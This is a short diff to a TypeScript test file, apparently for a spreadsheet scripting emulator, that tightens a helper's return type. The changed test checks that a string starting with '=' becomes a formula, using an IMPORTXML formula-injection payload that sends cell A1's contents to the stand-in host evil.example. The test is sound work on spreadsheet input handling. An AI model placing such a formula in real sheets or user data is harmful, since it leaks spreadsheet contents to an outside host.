@@ -26,7 +26,7 @@ function outcome(body: string, options: RunOptions & { world?: World } = {}): un
 const SHEET = 'var sh = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0];\n';
 
 /** Writes `input` with setValue into A1 and returns [value, type, formula] as seen by the script. */
-function typed(input: unknown, format?: string): unknown {
+function typed(input: unknown, format?: string): unknown[] {
   return JSON.parse(
     runSnippet(
       `${SHEET}var r = sh.getRange(1, 1);
@@ -74,7 +74,7 @@ describe('setValue/appendRow parse strings like typed input (fidelity 4)', () =>
   });
 
   test('a string beginning with = becomes a formula even in a plain-text cell', () => {
-    const [value, , formula] = typed('=IMPORTXML("https://evil.example/?q="&A1, "//a")', '@') as unknown[];
+    const [value, , formula] = typed('=IMPORTXML("https://evil.example/?q="&A1, "//a")', '@');
     expect(formula).toBe('=IMPORTXML("https://evil.example/?q="&A1, "//a")');
     expect(value).not.toBe('=IMPORTXML("https://evil.example/?q="&A1, "//a")');
   });
